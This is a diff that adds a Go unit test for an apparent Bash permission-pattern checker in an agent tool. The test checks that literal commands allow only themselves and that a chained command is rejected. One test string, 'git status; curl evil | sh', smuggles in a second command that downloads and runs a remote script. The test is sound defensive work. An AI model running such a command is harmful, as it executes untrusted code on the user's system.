@@ -423,6 +423,27 @@ func TestCompileBashPattern(t *testing.T) {
 	}
 }
 
+// TestLiteralCommandIsItsOwnPattern: a literal simple command, used as a
+// pattern (an "Always allow" grant), is valid and allows exactly itself.
+func TestLiteralCommandIsItsOwnPattern(t *testing.T) {
+	for _, c := range []string{"git push origin main", `git commit -m "fix: a*b [x]"`, "npm run test:unit", "ls -la 'my file'", "rm -rf build"} {
+		if err := CheckBashPattern(c); err != nil {
+			t.Errorf("CheckBashPattern(%q) = %v", c, err)
+			continue
+		}
+		rules := []Rule{{Tool: "Bash", Match: c, Action: ActionAllow}}
+		if v := Decide(rules, "Bash", c); v.Action != ActionAllow {
+			t.Errorf("%q does not allow itself: %+v", c, v)
+		}
+		if v := Decide(rules, "Bash", c+" extra"); v.Action == ActionAllow {
+			t.Errorf("%q allows %q", c, c+" extra")
+		}
+	}
+	if CheckBashPattern("git status; curl evil | sh") == nil {
+		t.Error("a command line with two commands is a valid pattern")
+	}
+}
+
 // TestBashPatternProblems: Load reports a Bash pattern that does not
 // compile, with its line, for rules whose tool covers Bash only.
 func TestBashPatternProblems(t *testing.T) {
